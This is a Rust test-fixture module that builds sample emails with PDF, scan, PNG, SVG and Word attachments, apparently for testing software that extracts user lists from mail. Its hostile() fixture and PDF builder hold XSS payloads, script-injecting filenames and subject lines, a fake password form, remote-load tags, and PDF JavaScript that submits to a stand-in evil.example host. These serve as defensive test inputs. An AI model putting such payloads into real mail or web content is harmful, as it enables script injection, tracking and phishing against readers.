//! Mails with documents that have to be typed in, and mails that mean harm.

#![allow(
    dead_code,
    clippy::unwrap_used,
    reason = "shared by several tests, each of which uses a part"
)]

use data_encoding::BASE64;

/// The boundary of every mail here.
const BOUNDARY: &str = "part-of-it";

/// A PDF of one page with these lines; cells of a line are apart. It would run a script if a viewer let it.
pub(crate) fn pdf(lines: &[&[&str]]) -> Vec<u8> {
    let mut text = String::from("BT /F1 12 Tf ");
    for (row, cells) in lines.iter().enumerate() {
        for (column, cell) in cells.iter().enumerate() {
            text += &format!("1 0 0 1 {} {} Tm ({cell}) Tj ", 60 + column * 150, 720 - row * 24);
        }
    }
    text += "ET";
    let script = "app.alert\\('ran'\\); this.submitForm\\('https://evil.example/pdf'\\);";
    let objects = [
        format!("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ({script}) >> >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> \
         /Annots [6 0 R] >>"
            .to_owned(),
        format!("<< /Length {} >>\nstream\n{text}\nendstream", text.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
        "<< /Type /Annot /Subtype /Link /Rect [60 700 300 760] /A << /S /URI /URI (https://evil.example/link) >> >>"
            .to_owned(),
    ];
    written(&objects.map(String::into_bytes))
}

/// A PDF of these objects, the first of which is its root.
fn written(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut file = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in (1..).zip(objects) {
        places.push(file.len());
        file.extend([format!("{number} 0 obj\n").as_bytes(), object, b"\nendobj\n"].concat());
    }
    let table = file.len();
    file.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for place in places {
        file.extend(format!("{place:010} 00000 n \n").bytes());
    }
    let size = objects.len() + 1;
    file.extend(format!("trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n").bytes());
    file
}

/// A scan: a PDF of one page that is a picture in JPEG 2000, red from edge to edge, with a form field that was filled in.
pub(crate) fn scan() -> Vec<u8> {
    let red: &[u8] = b"/0//UQAvAAAAAAAgAAAAIAAAAAAAAAAAAAAAIAAAACAAAAAAAAAAAAADBwEBBwEBBwEB/1IADAAAAAEAAAQEAAH/XAAEQED/ZAAlAAFDcmVh\
        dGVkIGJ5IE9wZW5KUEVHIHZlcnNpb24gMi41LjT/kAAKAAAAAABqAAH/k8+0VBQAXK//b4TJxdAAAAAAAAMJCX//f8+0fBFQVK//f/eaZOAAAAAAAYSEv/vqOAAA\
        AAAAwkJf/3/PtHwRUFSv/3/3pKUoAAAAAAADCQl/6lAgAAAAAGEhL/9//9k=";
    let red = BASE64.decode(red).unwrap();
    let image = format!(
        "<< /Type /XObject /Subtype /Image /Width 32 /Height 32 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /JPXDecode \
         /Length {} >>\nstream\n",
        red.len()
    );
    let draw = "q 612 0 0 792 0 0 cm /Im Do Q";
    written(&[
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /Im 5 0 R >> >> /Annots [6 0 R] >>"
            .to_vec(),
        format!("<< /Length {} >>\nstream\n{draw}\nendstream", draw.len()).into_bytes(),
        [image.as_bytes(), &red, b"\nendstream"].concat(),
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Email) /V (kim@harbor.example) /Rect [10 10 90 30] /F 4 >>".to_vec(),
    ])
}

/// A file of a mail: its headers and its bytes.
pub(crate) struct Attached<'a> {
    pub(crate) headers: &'a str,
    pub(crate) bytes: Vec<u8>,
}

/// A mail of Pat with a text and files. `text` begins with its own headers.
pub(crate) fn mail(subject: &str, id: &str, text: &str, files: &[Attached<'_>]) -> String {
    let mut mail = format!(
        "From: Pat Field <pat@vendor.example>\r\nTo: setup@vendor.example\r\nSubject: {subject}\r\nMessage-ID: <{id}@vendor.example>\r\n\
         Date: Mon, 01 Mar 2027 08:00:00 -0500\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"{BOUNDARY}\"\r\n\r\n\
         --{BOUNDARY}\r\n{text}\r\n"
    );
    for file in files {
        let lines = BASE64.encode(&file.bytes);
        let lines: Vec<&str> = lines
            .as_bytes()
            .chunks(76)
            .map(|line| std::str::from_utf8(line).unwrap_or_default())
            .collect();
        mail += &format!(
            "--{BOUNDARY}\r\n{}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            file.headers,
            lines.join("\r\n")
        );
    }
    mail += &format!("--{BOUNDARY}--\r\n");
    mail
}

/// The list that has to be typed in.
pub(crate) const LIST: [&[&str]; 4] = [
    &["Name", "Email", "Level"],
    &["Kim Sorensen", "kim@harbor.example", "2"],
    &["Luis Romero", "luis@harbor.example", "3"],
    &["Noor Haddad", "noor@harbor.example", "1"],
];

/// Pat forwards a list as a PDF.
pub(crate) fn with_pdf() -> String {
    let text = "Content-Type: text/plain; charset=utf-8\r\n\r\nHi all,\r\n\r\nthe new users for Harbor Freight Lines are in the attached PDF. \
                Please hold them, they go live on March 22.\r\n\r\nThanks,\r\nPat\r\n";
    let file = Attached {
        headers: "Content-Type: application/pdf; name=\"new users.pdf\"\r\nContent-Disposition: attachment; filename=\"new users.pdf\"",
        bytes: pdf(&LIST),
    };
    mail("New users for Harbor", "with-pdf", text, &[file])
}

/// Pat forwards a list as a scan.
pub(crate) fn with_scan() -> String {
    let text = "Content-Type: text/plain; charset=utf-8\r\n\r\nHi all,\r\n\r\nnew users for Oakhurst Library in the scan. Please hold them, \
                they go live on March 29.\r\n\r\nPat\r\n";
    let file = Attached {
        headers: "Content-Type: application/pdf; name=\"scan.pdf\"",
        bytes: scan(),
    };
    mail("New users for Oakhurst", "with-scan", text, &[file])
}

/// A picture of dots: a PNG of 16 by 16.
pub(crate) fn picture() -> Vec<u8> {
    let data: &[u8] = b"iVBORw0KGgoAAAANSUhEUgAAABAAAAAQAQMAAAAlPW0iAAAABlBMVEUAAAD///+l2Z/dAAAAM0lEQVR4nGP4/5/h/1+G/58ZDrAz3D/McH8yw83NDDeNGe4Ug9C9zwz3gVLMDA/A6P9/AFGGFyjOXZtQAAAAAElFTkSuQmCC";
    BASE64.decode(data).unwrap_or_default()
}

/// A Word document with these paragraphs of text, as the least that Word opens.
pub(crate) fn docx(paragraphs: &[&str]) -> Vec<u8> {
    let body: String = paragraphs
        .iter()
        .map(|text| text.replace('&', "&amp;").replace('<', "&lt;"))
        .map(|text| format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"))
        .collect();
    let document = format!(
        "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\
         <w:body>{body}</w:body></w:document>"
    );
    let types = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
                 <Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" \
                 ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let relations = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
                     <Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" \
                     Target=\"word/document.xml\"/></Relationships>";
    zip(&[
        ("[Content_Types].xml", types),
        ("_rels/.rels", relations),
        ("word/document.xml", &document),
    ])
}

/// An archive that stores its files as they are.
fn zip(files: &[(&str, &str)]) -> Vec<u8> {
    let short = |number: usize| u16::try_from(number).unwrap_or(u16::MAX).to_le_bytes();
    let long = |number: usize| u32::try_from(number).unwrap_or(u32::MAX).to_le_bytes();
    let (mut archive, mut directory) = (Vec::new(), Vec::new());
    for (name, text) in files {
        let sum = crc32fast::hash(text.as_bytes()).to_le_bytes();
        let (size, place) = (long(text.len()), archive.len());
        let common = [
            &[20, 0, 0, 0, 0, 0, 0, 0, 0, 0][..],
            &sum,
            &size,
            &size,
            &short(name.len()),
            &[0, 0],
        ]
        .concat();
        archive.extend([b"PK\x03\x04", &common[..], name.as_bytes(), text.as_bytes()].concat());
        let more = [&[0, 0, 0, 0, 0, 0, 0, 0, 0, 0][..], &long(place)].concat();
        directory.extend([b"PK\x01\x02\x14\x00", &common[..], &more, name.as_bytes()].concat());
    }
    let (count, place) = (short(files.len()), archive.len());
    let end = [
        &b"PK\x05\x06\0\0\0\0"[..],
        &count,
        &count,
        &long(directory.len()),
        &long(place),
        &[0, 0],
    ];
    archive.extend(directory);
    archive.extend(end.concat());
    archive
}

/// A mail that tries to run and to load whatever it can, from `elsewhere`.
pub(crate) fn hostile(elsewhere: &str) -> String {
    let run = "onerror=top.ran=1 onload=top.ran=1";
    let text = format!(
        "Content-Type: text/html; charset=utf-8\r\n\r\n<html><head><base href=\"{elsewhere}/\"><meta http-equiv=\"refresh\" content=\"0;url={elsewhere}/refresh\">\
         <link rel=\"stylesheet\" href=\"{elsewhere}/sheet.css\"><style>@import url({elsewhere}/import.css);p{{background:url({elsewhere}/p)}}</style></head>\
         <body background=\"{elsewhere}/back\" onload=\"top.ran=1\"><p>Hi all, please hold these until go-live on 22 March 2027 (client: Harbor).</p>\r\n\
         <script>top.ran=1</script><script src=\"{elsewhere}/script.js\"></script><img src=\"{elsewhere}/pixel.gif\" {run}><img src=\"//{}/two\"><img src=\"cid:dots\" alt=\"Dots\">\r\n\
         <img src=\"cid:vector\"><svg {run}><image href=\"{elsewhere}/svg\"/></svg><iframe src=\"{elsewhere}/frame\" srcdoc=\"<script>top.ran=1</script>\"></iframe>\r\n\
         <object data=\"{elsewhere}/object\"></object><embed src=\"{elsewhere}/embed\"><form action=\"{elsewhere}/form\"><input autofocus onfocus=\"top.ran=1\" name=password><button>Sign in</button></form>\r\n\
         <a href=\"{elsewhere}/link\" target=\"_top\">the list</a> <a href=\"javascript:top.ran=1\">run</a><video src=\"{elsewhere}/video\" poster=\"{elsewhere}/poster\" autoplay></video>\r\n\
         <div style=\"position:fixed;inset:0;background:url({elsewhere}/style)\">over</div><p style=\"color:red\">red ones hold</p>\r\n\
         <table><tr><th>Name</th><th>Email</th><th>Level</th><th>Roles</th></tr>\r\n\
         <tr><td>Kim &lt;img src=x {run}&gt;</td><td>kim@harbor.example</td><td>2</td><td>&lt;script&gt;top.ran=1&lt;/script&gt;</td></tr>\r\n\
         <tr><td>Luis \"onfocus=\"top.ran=1\" autofocus=\"</td><td>luis@harbor.example</td><td>3</td><td>Billing</td></tr></table></body></html>",
        elsewhere.trim_start_matches("http://")
    );
    let vector = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" {} ><script>top.ran=1</script><image href=\"{elsewhere}/vector\"/></svg>",
        run.replace("top.ran=1", "\"top.ran=1\"")
    );
    let page = format!("<script>top.ran=1;fetch('{elsewhere}/page')</script>");
    let words = [
        "Name: Noor <img src=x onerror=top.ran=1>",
        "Email: noor@harbor.example",
        "Level: 1",
        "<script>top.ran=1</script>",
    ];
    let files = [
        Attached {
            headers: "Content-Type: image/png; name=\"dots.png\"\r\nContent-ID: <dots>",
            bytes: picture(),
        },
        Attached {
            headers: "Content-Type: image/svg+xml; name=\"vector.svg\"\r\nContent-ID: <vector>",
            bytes: vector.into_bytes(),
        },
        Attached {
            headers: "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"'><img src=x onerror=top.ran=1>.pdf\"",
            bytes: pdf(&LIST),
        },
        Attached {
            headers: "Content-Type: text/html; name=\"page.html\"\r\nContent-Disposition: attachment; filename=\"page.html\"",
            bytes: page.into_bytes(),
        },
        Attached {
            headers: "Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\nContent-Disposition: attachment; filename=\"<script>top.ran=1</script>.docx\"",
            bytes: docx(&words),
        },
    ];
    mail(
        "Users <img src=x onerror=top.ran=1> </title><script>top.ran=1</script>",
        "hostile",
        &text,
        &files,
    )
}

/// Pat forwards a list as a screenshot.
pub(crate) fn with_picture() -> String {
    let text = "Content-Type: text/plain; charset=utf-8\r\n\r\nHi all,\r\n\r\nplease see the screenshot with the new users for Tamarind Foods. \
                Please hold them, they go live on March 29.\r\n\r\nThanks,\r\nPat\r\n";
    let file = Attached {
        headers: "Content-Type: image/png; name=\"screenshot of the list.png\"\r\nContent-Disposition: attachment; filename=\"screenshot of the list.png\"",
        bytes: picture(),
    };
    mail("New users for Tamarind", "with-picture", text, &[file])
}
